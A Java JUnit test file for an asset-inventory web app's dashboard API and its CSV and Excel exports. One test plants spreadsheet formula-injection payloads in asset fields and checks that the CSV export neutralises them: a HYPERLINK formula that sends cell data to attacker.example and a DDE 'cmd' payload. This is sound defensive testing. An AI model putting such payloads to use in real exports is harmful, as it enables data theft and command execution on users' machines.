package io.opsledger.web.inventory;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.opsledger.identity.api.Role;
import io.opsledger.testing.AppTest;
import io.opsledger.web.inventory.InventoryClient.Response;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpHeaders;
import org.springframework.test.web.reactive.server.EntityExchangeResult;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/** GET /api/dashboard/ and the CSV and Excel exports over HTTP. */
class InventoryDashboardExportsTest extends AppTest {

    static final List<String> HEADERS = List.of("Asset ID", "Name", "Asset Type", "AWS Service Type", "AWS Account",
            "AWS Region", "Status", "Criticality", "Owner", "Department", "Category", "Created At", "Last Seen At");

    private static String unique() { return "dx" + UUID.randomUUID().toString().substring(0, 8); }

    private InventoryClient root() { return InventoryClient.withToken(http(), superadmin().token()); }

    private String asset(String name, Object... more) {
        Map<String, Object> body = new HashMap<>();
        body.put("name", name);
        for (int i = 0; i < more.length; i += 2) {
            body.put((String) more[i], more[i + 1]);
        }
        Response r = root().post("/api/assets/", body);
        assertThat(r.status()).as(r.text()).isEqualTo(201);
        return r.at("/id").asText();
    }

    private static long count(JsonNode list, String field, String value) {
        for (JsonNode item : list) {
            if (item.get(field).asText().equals(value)) {
                assertThat(item.size()).isEqualTo(2);
                return item.get("count").asLong();
            }
        }
        return 0;
    }

    @Test
    void theDashboardHasTheContractsShapeAndCountsThePresentAssets() {
        Response before = InventoryClient.withToken(http(), user(Role.READONLY).token()).get("/api/dashboard/");
        assertThat(before.status()).as(before.text()).isEqualTo(200);
        assertThat(before.json().fieldNames()).toIterable().containsExactly("total_assets", "total_accounts",
                "critical_assets", "last_discovery", "total_monthly_cost", "total_previous_month_cost", "by_type",
                "by_service", "by_criticality", "by_status", "accounts", "recent_jobs");
        // other tests in this application context may have run discovery jobs (none against AWS completes here)
        JsonNode jobs = root().get("/api/discovery/jobs/?page_size=10").at("/results");
        List<String> newest = new ArrayList<>();
        jobs.forEach(j -> newest.add(j.get("id").asText()));
        List<String> recent = new ArrayList<>();
        before.at("/recent_jobs").forEach(j -> recent.add(j.get("id").asText()));
        assertThat(recent).isEqualTo(newest);
        boolean anyCompleted = root().get("/api/discovery/jobs/?status=COMPLETED").at("/count").asInt() > 0;
        assertThat(before.at("/last_discovery").isNull()).isEqualTo(!anyCompleted);
        assertThat(before.at("/total_monthly_cost").isTextual()).isTrue();

        String accountId = String.format("%012d", Math.abs(UUID.randomUUID().getMostSignificantBits()) % 1_000_000_000_000L);
        Response account = root().post("/api/accounts/", Map.of("account_id", accountId, "account_name", unique(),
                "discovery_regions", List.of("eu-central-1")));
        assertThat(account.status()).as(account.text()).isEqualTo(201);
        String acc = account.at("/id").asText();
        asset(unique(), "aws_service_type", "EC2", "criticality", "CRITICAL", "aws_account", acc);
        asset(unique(), "aws_service_type", "EC2", "criticality", "LOW", "status", "INACTIVE", "aws_account", acc);
        asset(unique(), "asset_type", "SAAS", "criticality", "CRITICAL", "status", "DECOMMISSIONED");

        Response after = root().get("/api/dashboard");
        assertThat(after.status()).as(after.text()).isEqualTo(200);
        assertThat(after.at("/total_assets").asLong() - before.at("/total_assets").asLong()).isEqualTo(2);
        assertThat(after.at("/critical_assets").asLong() - before.at("/critical_assets").asLong()).isEqualTo(1);
        assertThat(after.at("/total_accounts").asLong() - before.at("/total_accounts").asLong()).isEqualTo(1);
        assertThat(count(after.at("/by_service"), "aws_service_type", "EC2")
                - count(before.at("/by_service"), "aws_service_type", "EC2")).isEqualTo(2);
        assertThat(count(after.at("/by_type"), "asset_type", "SAAS")
                - count(before.at("/by_type"), "asset_type", "SAAS")).isZero();
        assertThat(count(after.at("/by_criticality"), "criticality", "CRITICAL")
                - count(before.at("/by_criticality"), "criticality", "CRITICAL")).isEqualTo(1);
        assertThat(count(after.at("/by_status"), "status", "INACTIVE")
                - count(before.at("/by_status"), "status", "INACTIVE")).isEqualTo(1);
        assertThat(count(after.at("/by_status"), "status", "DECOMMISSIONED")).isZero();

        JsonNode item = null;
        for (JsonNode a : after.at("/accounts")) {
            if (a.get("id").asText().equals(acc)) item = a;
        }
        assertThat(item).isNotNull();
        assertThat(item.fieldNames()).toIterable().containsExactly("id", "account_name", "account_id", "environment",
                "is_active", "asset_count", "estimated_monthly_cost", "previous_month_cost", "last_discovery_at");
        assertThat(item.get("account_id").asText()).isEqualTo(accountId);
        assertThat(item.get("asset_count").asLong()).isEqualTo(1); // ACTIVE and UNKNOWN only
        assertThat(item.get("estimated_monthly_cost").asText()).isEqualTo("0.00");
        assertThat(item.get("last_discovery_at").isNull()).isTrue();

        assertThat(new InventoryClient(http()).get("/api/dashboard/").status()).isEqualTo(403);
    }

    private EntityExchangeResult<byte[]> download(String path, String token) {
        var spec = http().get().uri(path);
        if (token != null) {
            spec = spec.header("Authorization", "Token " + token);
        }
        return spec.exchange().expectBody().returnResult();
    }

    private List<List<String>> csv(String query) throws IOException {
        EntityExchangeResult<byte[]> r = download("/assets/export/csv/?" + query, user(Role.READONLY).token());
        assertThat(r.getStatus().value()).as(new String(r.getResponseBodyContent(), StandardCharsets.UTF_8)).isEqualTo(200);
        assertThat(r.getResponseHeaders().getContentType().toString()).startsWith("text/csv");
        assertThat(r.getResponseHeaders().getFirst(HttpHeaders.CONTENT_DISPOSITION))
                .startsWith("attachment; filename=\"assets_").endsWith(".csv\"");
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> it = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY)
                .readerForListOf(String.class).readValues(r.getResponseBody())) {
            it.forEachRemaining(rows::add);
        }
        return rows;
    }

    private List<List<String>> excel(String query) throws IOException {
        EntityExchangeResult<byte[]> r = download("/assets/export/excel/?" + query, user(Role.READONLY).token());
        assertThat(r.getStatus().value()).isEqualTo(200);
        assertThat(r.getResponseHeaders().getContentType().toString())
                .isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(r.getResponseHeaders().getFirst(HttpHeaders.CONTENT_DISPOSITION))
                .startsWith("attachment; filename=\"assets_").endsWith(".xlsx\"");
        List<List<String>> rows = new ArrayList<>();
        DataFormatter formatter = new DataFormatter();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(r.getResponseBody()))) {
            Sheet sheet = book.getSheet("Assets");
            for (Row row : sheet) {
                List<String> cells = new ArrayList<>();
                for (int c = 0; c < HEADERS.size(); c++) {
                    cells.add(row.getCell(c) == null ? "" : formatter.formatCellValue(row.getCell(c)));
                }
                rows.add(cells);
            }
        }
        return rows;
    }

    private static List<String> column(List<List<String>> rows, String header) {
        int i = HEADERS.indexOf(header);
        return rows.subList(1, rows.size()).stream().map(r -> r.get(i)).toList();
    }

    @Test
    void exportsCarryTheListsColumnsAndHonourItsFilters() throws IOException {
        String department = unique();
        String web = "web-" + department;
        String db = "db-" + department;
        String old = "old-" + department;
        asset(web, "aws_service_type", "EC2", "criticality", "CRITICAL", "department", department,
                "aws_region", "eu-central-1", "owner", "Platform, \"core\" team");
        asset(db, "aws_service_type", "RDS", "criticality", "LOW", "department", department);
        asset(old, "aws_service_type", "EC2", "status", "DECOMMISSIONED", "department", department);

        for (boolean isCsv : List.of(true, false)) {
            java.util.function.Function<String, List<List<String>>> export = q -> {
                try {
                    return isCsv ? csv(q) : excel(q);
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            };
            List<List<String>> all = export.apply("department=" + department);
            assertThat(all.get(0)).containsExactlyElementsOf(HEADERS);
            assertThat(column(all, "Name")).containsExactly(db, web); // the list's order: by name; no DECOMMISSIONED
            List<String> webRow = all.get(2);
            assertThat(webRow.get(HEADERS.indexOf("Asset ID"))).startsWith("ASSET-");
            assertThat(webRow.get(HEADERS.indexOf("Asset Type"))).isEqualTo("AWS Service");
            assertThat(webRow.get(HEADERS.indexOf("AWS Service Type"))).isEqualTo("EC2 Instance");
            assertThat(webRow.get(HEADERS.indexOf("Status"))).isEqualTo("Active");
            assertThat(webRow.get(HEADERS.indexOf("Criticality"))).isEqualTo("Critical");
            assertThat(webRow.get(HEADERS.indexOf("Owner"))).isEqualTo("Platform, \"core\" team");
            assertThat(webRow.get(HEADERS.indexOf("AWS Region"))).isEqualTo("eu-central-1");
            assertThat(webRow.get(HEADERS.indexOf("Created At"))).endsWith("Z");

            assertThat(column(export.apply("department=" + department + "&criticality=CRITICAL"), "Name"))
                    .containsExactly(web);
            assertThat(column(export.apply("department=" + department + "&exclude_aws_service_type=EC2"), "Name"))
                    .containsExactly(db);
            assertThat(column(export.apply("department=" + department + "&status=DECOMMISSIONED"), "Name"))
                    .containsExactly(old);
            assertThat(column(export.apply("search=" + web), "Name")).containsExactly(web);
            assertThat(column(export.apply("department=" + department + "&ordering=-name"), "Name"))
                    .containsExactly(web, db);
        }
    }

    /** Names and owners come from AWS tags, which anyone who may tag a resource writes. */
    @Test
    void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralised() throws IOException {
        String department = unique();
        String category = "@SUM(1+1)-" + department;
        Response cat = root().post("/api/categories/", Map.of("name", category));
        assertThat(cat.status()).as(cat.text()).isEqualTo(201);
        String hyperlink = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
        asset(hyperlink, "department", department, "owner", "+1+cmd|' /C calc'!A0", "aws_region", "-2+3",
                "category", cat.at("/id").asText());
        asset("b-plain", "department", department, "owner", "\tTabbed", "aws_region", "\r=1+1");
        asset("c-safe", "department", department, "owner", "Team = ops, -1 + @x");

        List<List<String>> csv = csv("department=" + department);
        List<String> injected = csv.stream().filter(r -> r.get(HEADERS.indexOf("Name")).contains("HYPERLINK")).findFirst().orElseThrow();
        assertThat(injected.get(HEADERS.indexOf("Name"))).isEqualTo("'" + hyperlink);
        assertThat(injected.get(HEADERS.indexOf("Owner"))).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(injected.get(HEADERS.indexOf("AWS Region"))).isEqualTo("'-2+3");
        assertThat(injected.get(HEADERS.indexOf("Category"))).isEqualTo("'" + category);
        List<String> tabbed = csv.stream().filter(r -> r.get(HEADERS.indexOf("Name")).equals("b-plain")).findFirst().orElseThrow();
        assertThat(tabbed.get(HEADERS.indexOf("Owner"))).isEqualTo("'\tTabbed");
        assertThat(tabbed.get(HEADERS.indexOf("AWS Region"))).isEqualTo("'\r=1+1");
        List<String> safe = csv.stream().filter(r -> r.get(HEADERS.indexOf("Name")).equals("c-safe")).findFirst().orElseThrow();
        assertThat(safe.get(HEADERS.indexOf("Owner"))).isEqualTo("Team = ops, -1 + @x"); // only the first character counts
        assertThat(safe.get(HEADERS.indexOf("Department"))).isEqualTo(department);

        // Excel holds them as text cells (a formula cell would read back without its "="), so they stay as typed
        List<List<String>> excel = excel("department=" + department);
        assertThat(column(excel, "Name")).contains(hyperlink);
        assertThat(column(excel, "Category")).contains(category);
    }

    @Test
    void exportsAreForSignedInUsersAndCheckTheirFilters() {
        for (String path : List.of("/assets/export/csv/", "/assets/export/excel/", "/assets/export/csv",
                "/assets/export/excel")) {
            EntityExchangeResult<byte[]> anonymous = download(path, null);
            assertThat(anonymous.getStatus().value()).as(path).isEqualTo(403);
            EntityExchangeResult<byte[]> bad = download(path + "?criticality=BOGUS", user(Role.READONLY).token());
            assertThat(bad.getStatus().value()).as(path).isEqualTo(400);
            assertThat(new String(bad.getResponseBody(), StandardCharsets.UTF_8)).contains("criticality");
        }
    }
}
